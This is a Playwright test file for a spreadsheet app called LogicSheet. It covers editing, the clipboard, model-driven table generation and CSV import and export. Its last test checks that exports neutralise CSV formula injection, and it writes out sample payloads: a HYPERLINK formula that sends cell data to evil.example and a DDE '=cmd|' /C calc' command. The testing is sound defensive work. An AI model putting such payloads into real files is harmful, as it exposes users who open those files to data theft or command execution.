import { expect, type Page } from "@playwright/test";
import { download, openApp, serverDocument, syncStatus } from "./support/apps";
import { toasts } from "./support/ui";
import { test } from "./support/with-provider";

/** LogicSheet against the scripted model provider: keyboard editing, clipboard, generate, CSV in and out. */
test.describe.configure({ timeout: 60_000 });
test.beforeEach(({ provider }) => provider.reset());

const cell = (page: Page, name: string) => page.getByRole("gridcell", { name, exact: true });
const sum = (page: Page, column: string) => page.getByLabel(`Sum of ${column}`);

test("cells are edited with the keyboard as in any spreadsheet; sums skip the header, count text as 0, two decimals", async ({
  page,
}) => {
  await openApp(page, "logic-sheet", "LogicSheet");
  await cell(page, "A1").click();
  await page.keyboard.type("Item");
  await page.keyboard.press("Tab");
  await page.keyboard.type("Cost");
  await page.keyboard.press("Enter");
  await expect(cell(page, "B2")).toBeFocused();
  await page.keyboard.press("ArrowLeft");
  for (const [item, cost] of [
    ["Rent", "900"],
    ["Food", "300.5"],
    ["Gift", "n/a"],
  ]) {
    await page.keyboard.type(item ?? "");
    await page.keyboard.press("Tab");
    await page.keyboard.type(cost ?? "");
    await page.keyboard.press("Enter");
    await page.keyboard.press("ArrowLeft");
  }
  await expect(cell(page, "A1")).toHaveText("Item");
  await expect(cell(page, "B3")).toHaveText("300.5");
  await expect(sum(page, "B")).toHaveText("1200.50");
  await expect(sum(page, "A")).toHaveText("0.00");

  // Typing replaces; Escape cancels; Enter edits what is there.
  await cell(page, "A2").click();
  await page.keyboard.type("Mortgage");
  await page.keyboard.press("Escape");
  await expect(cell(page, "A2")).toHaveText("Rent");
  await expect(cell(page, "A2")).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(page.getByLabel("Edit A2")).toHaveValue("Rent");
  await page.keyboard.type(" (flat)");
  await page.keyboard.press("Enter");
  await expect(cell(page, "A2")).toHaveText("Rent (flat)");
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("Delete");
  await expect(cell(page, "B3")).toHaveText("");
  await expect(sum(page, "B")).toHaveText("900.00");

  await expect(syncStatus(page)).toHaveText("Saved");
  expect((await serverDocument(page, "logic-sheet")).content[1]).toEqual([
    "Rent (flat)",
    "900",
    "",
    "",
    "",
    "",
  ]);
  await page.reload();
  await expect(cell(page, "A2")).toHaveText("Rent (flat)");
});

test("a block copied from another spreadsheet pastes in; a selected range copies out as tab-separated text", async ({
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await openApp(page, "logic-sheet", "LogicSheet");
  await page.evaluate(() => navigator.clipboard.writeText('Name\tScore\nAda\t"9,5"\nLin\t7\n'));
  await cell(page, "C1").click();
  await page.keyboard.press("Control+V");
  await expect(cell(page, "C1")).toHaveText("Name");
  await expect(cell(page, "D2")).toHaveText("9,5");
  await expect(cell(page, "D3")).toHaveText("7");

  await cell(page, "C2").click();
  await page.keyboard.press("Shift+ArrowRight");
  await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("Control+C");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("Ada\t9,5\nLin\t7");

  // A block wider than the grid is cut, and the person is told.
  await page.evaluate(() => navigator.clipboard.writeText("1\t2\t3\n4\t5\t6"));
  await cell(page, "E9").click();
  await page.keyboard.press("Control+V");
  await expect(toasts(page).getByText("Pasted in part")).toBeVisible();
  await expect(cell(page, "F10")).toHaveText("5");
});

test("Generate: no prompt says so; the model's CSV fills the grid cut to 10 × 6; a bad answer or a failure says 'Generation Failed'", async ({
  page,
  provider,
}) => {
  await openApp(page, "logic-sheet", "LogicSheet");
  const generate = page.getByRole("button", { name: "Generate" });
  await generate.click();
  await expect(toasts(page).getByText("No Prompt")).toBeVisible();
  await expect(toasts(page).getByText("Please enter a prompt to generate a table")).toBeVisible();

  const rows = Array.from({ length: 14 }, (_, r) =>
    Array.from({ length: 8 }, (_, c) => (r === 0 ? `"H${c}"` : r * 10 + c)).join(","),
  );
  provider.script({ kind: "text", chunks: ["```csv\n", rows.join("\n"), "\n```"], delayMs: 20 });
  await page.getByLabel("Describe a table").fill("numbers");
  await generate.click();
  await expect(toasts(page).getByText("Table Generated")).toBeVisible();
  await expect(toasts(page).getByText(/cut to 10 rows × 6 columns/)).toBeVisible();
  await expect(cell(page, "A1")).toHaveText("H0");
  await expect(cell(page, "F10")).toHaveText("95");
  expect(provider.calls.at(-1)?.body).toMatchObject({ temperature: 0.3 });

  const output = page.getByRole("region", { name: "Generated table" });
  provider.script({ kind: "text", chunks: ["   \n  "] });
  await generate.click();
  await expect(output.getByRole("alert")).toHaveText("The model gave no table.");
  await expect(toasts(page).getByText("Generation Failed")).toBeVisible();
  await expect(toasts(page).getByText("Could not generate table. Please try again.")).toBeVisible();
  provider.script({ kind: "error", status: 500, body: { error: { message: "down" } } });
  await generate.click();
  // The server's own words (the provider's failure), not a bare status.
  await expect(output.getByRole("alert")).toContainText("OpenAI is unavailable (HTTP 500): down");
  await expect(toasts(page).getByText("Generation Failed")).toBeVisible();
  await expect(cell(page, "A1")).toHaveText("H0");
});

test("CSV: export downloads the grid; a tricky file imports (quotes, commas, line breaks) cut with a message; a non-CSV file is refused", async ({
  page,
}) => {
  await openApp(page, "logic-sheet", "LogicSheet");
  const tricky = [
    'Name,"Note, with comma","Multi',
    'line"',
    '"Ada ""the first""",1,2',
    ...Array.from({ length: 14 }, (_, i) => `row${i},${i},x`),
  ].join("\r\n");
  await page
    .getByLabel("CSV file to import")
    .setInputFiles({ name: "tricky.csv", mimeType: "text/csv", buffer: Buffer.from(tricky) });
  await expect(
    toasts(page).getByText(/tricky\.csv is larger than the sheet: only its first 10 rows × 6 columns/),
  ).toBeVisible();
  await expect(cell(page, "B1")).toHaveText("Note, with comma");
  await expect(cell(page, "C1")).toHaveText("Multi line");
  await expect(cell(page, "A2")).toHaveText('Ada "the first"');
  await expect(cell(page, "A10")).toHaveText("row7");

  await page.getByLabel("Title", { exact: true }).fill("Budget");
  const csv = await download(page, () => page.getByRole("button", { name: "Export CSV" }).click());
  expect(csv.name).toBe("Budget.csv");
  const text = new TextDecoder().decode(csv.bytes);
  expect(
    text.startsWith('Name,"Note, with comma","Multi\r\nline",,,\r\n"Ada ""the first""",1,2,,,\r\n'),
  ).toBe(true);
  await expect(toasts(page).getByText("Exported")).toBeVisible();

  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
  await page
    .getByLabel("CSV file to import")
    .setInputFiles({ name: "photo.png", mimeType: "image/png", buffer: png });
  await expect(toasts(page).getByText("photo.png is not a CSV file: choose a .csv file.")).toBeVisible();
  await page
    .getByLabel("CSV file to import")
    .setInputFiles({ name: "fake.csv", mimeType: "text/csv", buffer: png });
  await expect(toasts(page).getByText(/fake\.csv is not a CSV file/)).toBeVisible();
  await expect(cell(page, "A2")).toHaveText('Ada "the first"');
});

test("CSV: the export neutralises formulas from a model's table or an imported file (a quote in front); numbers stay numbers", async ({
  page,
  provider,
}) => {
  await openApp(page, "logic-sheet", "LogicSheet");
  await page.getByLabel("Title", { exact: true }).fill("Report");
  const exported = async () => {
    const csv = await download(page, () => page.getByRole("button", { name: "Export CSV" }).click());
    return new TextDecoder().decode(csv.bytes).split("\r\n");
  };

  const table = ["Link,Delta,Total", '"=HYPERLINK(""http://evil.example/?""&A2,""Open"")",-3,@SUM(1+1)'];
  provider.script({ kind: "text", chunks: ["```csv\n", table.join("\n"), "\n```"] });
  await page.getByLabel("Describe a table").fill("links");
  await page.getByRole("button", { name: "Generate" }).click();
  await expect(toasts(page).getByText("Table Generated")).toBeVisible();
  expect((await exported()).slice(0, 2)).toEqual([
    "Link,Delta,Total,,,",
    `"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")",-3,"'@SUM(1+1)",,,`,
  ]);

  const file = ["Cmd,Gain", "=cmd|' /C calc'!A0,+1.5", '"\t=1+1",-2+3'].join("\r\n");
  await page
    .getByLabel("CSV file to import")
    .setInputFiles({ name: "attack.csv", mimeType: "text/csv", buffer: Buffer.from(file) });
  await expect(cell(page, "B2")).toHaveText("+1.5");
  expect((await exported()).slice(0, 3)).toEqual([
    "Cmd,Gain,,,,",
    `"'=cmd|' /C calc'!A0",+1.5,,,,`,
    `"'\t=1+1","'-2+3",,,,`,
  ]);
});
